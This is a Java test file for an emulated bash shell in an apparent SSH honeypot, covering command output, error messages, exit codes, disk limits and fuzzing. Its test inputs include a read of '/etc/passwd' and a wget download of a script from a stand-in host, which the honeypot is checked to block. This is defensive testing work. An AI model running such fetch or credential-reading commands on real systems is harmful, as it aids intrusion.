package io.honeypods.ssh;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.junit.FuzzTest;
import io.honeypods.testkit.ManualClock;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellTest {
  private static final int MOST_OUTPUT = 256 * 1024;

  private final Shell shell = shell();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "whoami => ops",
        "echo a  'b  c' \"d $USER\" => a b  c d ops",
        "false || echo no && echo yes => no*yes",
        "true && pwd => /home/ops",
        "false; echo $? => 1",
        "cd /etc; pwd; cd; pwd => /etc*/home/ops",
        "echo a > f; echo b >> f; cat f => a*b",
        "cat /etc/passwd | grep ops => ops:x:1000:1000:,,,:/home/ops:/bin/bash",
        "uname -srm => Linux 6.12.57+deb13-amd64 x86_64",
        "X=5; echo ${X}x => 5x",
        "echo -e '\\x41\\x42' => AB",
        "nonsense 2>/dev/null; echo $? => 127",
        "mkdir -p /tmp/a && cd /tmp/a && pwd => /tmp/a",
        "cat /etc/hosts | head -n 1 | wc -l => 1"
      })
  void answersAsBashDoes(String line) {
    int last = line.lastIndexOf(" => ");
    String expected = line.substring(last + 4).replace("*", "\n") + "\n";

    assertThat(shell.run(line.substring(0, last))).isEqualTo(new Shell.Result(expected, ""));
  }

  @Test
  void saysWhatIsWrong() {
    assertThat(shell.run("nonsense").err()).isEqualTo("-bash: nonsense: command not found\n");
    assertThat(shell.status()).isEqualTo(127);
    assertThat(shell.run("cd /x").err()).isEqualTo("-bash: cd: /x: No such file or directory\n");
    assertThat(shell.run("; a").err()).isEqualTo("-bash: syntax error near unexpected token `;'\n");
    assertThat(shell.run("cat /etc /x").err())
        .isEqualTo("cat: /etc: Is a directory\ncat: /x: No such file or directory\n");
  }

  @Test
  void endsWithTheStatusAskedFor() {
    shell.run("exit 3; echo no");

    assertThat(shell.hasExited()).isTrue();
    assertThat(shell.status()).isEqualTo(3);
  }

  @Test
  void reachesNobody() {
    assertThat(shell.run("wget http://203.0.113.5.example/x.sh").err())
        .isEqualTo("wget: unable to resolve host address ‘203.0.113.5.example’\n");
  }

  @Test
  void keepsNoMoreThanTheDiskHolds() {
    shell.run("echo " + "x".repeat(10_000) + " > f");
    for (int i = 0; i < 300; i++) {
      shell.run("cat f > f" + i);
    }

    assertThat(shell.run("cat f > last").err()).isEqualTo("-bash: last: No space left on device\n");
  }

  @FuzzTest(maxDuration = "10m")
  void takesAnyLine(byte[] data) {
    Shell.Result result = shell().run(new String(data, StandardCharsets.UTF_8));

    assertThat(result.out().length()).isLessThanOrEqualTo(MOST_OUTPUT);
    assertThat(result.err().length()).isLessThanOrEqualTo(MOST_OUTPUT);
  }

  private static Shell shell() {
    return new Shell(Host.of(TestSsh.IDENTITY, SshProfile.DEBIAN13, new ManualClock()), "ops");
  }
}
